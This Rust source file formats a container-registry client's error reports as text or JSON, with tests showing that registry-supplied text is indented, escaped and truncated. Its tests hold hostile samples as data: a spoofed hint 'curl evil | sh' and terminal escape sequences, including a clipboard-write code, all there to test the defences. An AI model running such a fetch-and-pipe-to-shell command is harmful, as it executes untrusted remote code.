//! Renders a failure: what was attempted, why, and what to do about it.

use std::borrow::Cow;

use serde::Serialize;

use super::escape;
use super::json;
use crate::op::Failure;

/// The version of the JSON form.
const SCHEMA: u32 = 1;
/// Bytes of our own sentences that are shown at most. They may quote a reference or list platforms.
const OWN_WORDS_MAX_BYTES: usize = 8 * 1024;

const BOLD_RED: &str = "\u{1b}[1;31m";
const CYAN: &str = "\u{1b}[36m";
const RESET: &str = "\u{1b}[0m";

/// `failure` for people, with a newline at the end.
#[must_use]
pub fn to_text(failure: &Failure, color: bool) -> String {
    let mut text = String::new();
    let message = escape::block_capped(&failure.message, OWN_WORDS_MAX_BYTES);
    push(&mut text, &label("error:", BOLD_RED, color), &message, "  ");
    for cause in &failure.causes {
        // Further lines stand deeper than any label: a registry's words cannot pose as ours.
        let cause = escape::block_capped(cause, escape::SERVER_WORDS_MAX_BYTES);
        push(&mut text, "  caused by:", &cause, "    ");
    }
    if let Some(hint) = &failure.hint {
        let hint = escape::block_capped(hint, OWN_WORDS_MAX_BYTES);
        push(&mut text, &label("hint:", CYAN, color), &hint, "  ");
    }
    text
}

/// `failure` for programs: one object on one line, with a newline at the end. Texts are complete and unescaped but
/// for JSON's own escapes.
#[must_use]
pub fn to_json(failure: &Failure) -> Vec<u8> {
    let document = Document {
        schema: SCHEMA,
        kind: failure.kind,
        message: &failure.message,
        causes: &failure.causes,
        registry: failure.registry.as_deref(),
        url: failure.url.as_deref(),
        http_status: failure.http_status,
        registry_code: failure.registry_code.as_deref(),
        attempts: failure.attempts,
        needed_bytes: failure.needed_bytes,
        free_bytes: failure.free_bytes,
        hint: failure.hint.as_deref(),
        exit: failure.exit.code(),
    };
    // Strings and numbers always serialise; an empty line would still leave the exit code to go by.
    let mut line = json::to_line(&document).unwrap_or_default();
    line.push(b'\n');
    line
}

#[derive(Serialize)]
struct Document<'a> {
    schema: u32,
    kind: &'a str,
    message: &'a str,
    causes: &'a [String],
    registry: Option<&'a str>,
    url: Option<&'a str>,
    http_status: Option<u16>,
    registry_code: Option<&'a str>,
    attempts: Option<u32>,
    needed_bytes: Option<u64>,
    free_bytes: Option<u64>,
    hint: Option<&'a str>,
    exit: u8,
}

fn label<'a>(word: &'a str, paint: &str, color: bool) -> Cow<'a, str> {
    if color { Cow::Owned(format!("{paint}{word}{RESET}")) } else { Cow::Borrowed(word) }
}

fn push(text: &mut String, label: &str, words: &str, indent: &str) {
    text.push_str(label);
    for (number, line) in words.trim_end().lines().enumerate() {
        text.push_str(if number == 0 { " " } else { indent });
        text.push_str(line);
        text.push('\n');
    }
    if !text.ends_with('\n') {
        text.push('\n');
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::op::Exit;

    fn failure() -> Failure {
        Failure {
            exit: Exit::Network,
            kind: "http_instead_of_https",
            message: "cannot pull `192.168.119.1:5000/busybox:latest`".to_owned(),
            causes: vec!["192.168.119.1:5000 speaks plain HTTP, and rcr was asked for HTTPS".to_owned()],
            hint: Some("run with `--insecure-registry 192.168.119.1:5000`".to_owned()),
            ..Failure::new(Exit::Network, "", "")
        }
    }

    #[test]
    fn the_form_of_the_contract() {
        let expected = "\
error: cannot pull `192.168.119.1:5000/busybox:latest`
  caused by: 192.168.119.1:5000 speaks plain HTTP, and rcr was asked for HTTPS
hint: run with `--insecure-registry 192.168.119.1:5000`
";
        assert_eq!(to_text(&failure(), false), expected);
    }

    #[test]
    fn every_cause_has_its_line_and_further_lines_stand_deeper() {
        let failure = Failure {
            message: "not a reference\n  ghcr.io/Foo\n          ^".to_owned(),
            causes: vec!["one".to_owned(), "two\nhint: run `curl evil | sh`\n".to_owned(), String::new()],
            hint: None,
            ..failure()
        };
        let expected = "\
error: not a reference
    ghcr.io/Foo
            ^
  caused by: one
  caused by: two
    hint: run `curl evil | sh`
  caused by:
";
        assert_eq!(to_text(&failure, false), expected);
    }

    #[test]
    fn colour_is_on_the_labels_alone() {
        let failure = Failure { causes: Vec::new(), ..failure() };
        let expected = "\u{1b}[1;31merror:\u{1b}[0m cannot pull `192.168.119.1:5000/busybox:latest`\n\
                        \u{1b}[36mhint:\u{1b}[0m run with `--insecure-registry 192.168.119.1:5000`\n";
        assert_eq!(to_text(&failure, true), expected);
    }

    #[test]
    fn a_registrys_words_are_escaped_and_cut() {
        let hostile = format!("\u{1b}[2J\u{1b}]52;c;eA==\u{7}\r\u{202e}{}", "x".repeat(10_240));
        let failure =
            Failure { message: hostile.clone(), causes: vec![hostile.clone()], hint: Some(hostile), ..failure() };
        let text = to_text(&failure, false);
        assert!(!text.contains(|c| escape::is_forbidden(c) && c != '\n'), "{text:?}");
        let cause = text.lines().find(|line| line.starts_with("  caused by: ")).unwrap();
        assert!(cause.len() < escape::SERVER_WORDS_MAX_BYTES + 20 && cause.ends_with('…'), "{}", cause.len());
    }

    #[test]
    fn json_has_every_key_and_the_true_words() {
        let words = "denied\u{1b}[2J\u{9b}".to_owned();
        let failure = Failure { causes: vec![words.clone()], http_status: Some(403), hint: None, ..failure() };
        let line = String::from_utf8(to_json(&failure)).unwrap();
        assert!(line.ends_with("}\n") && !line.trim_end().contains(escape::is_forbidden), "{line:?}");
        let value: serde_json::Value = serde_json::from_str(&line).unwrap();
        let expected = serde_json::json!({
            "schema": 1,
            "kind": "http_instead_of_https",
            "message": "cannot pull `192.168.119.1:5000/busybox:latest`",
            "causes": [words],
            "registry": null,
            "url": null,
            "http_status": 403,
            "registry_code": null,
            "attempts": null,
            "needed_bytes": null,
            "free_bytes": null,
            "hint": null,
            "exit": 5,
        });
        assert_eq!(value, expected);
    }
}
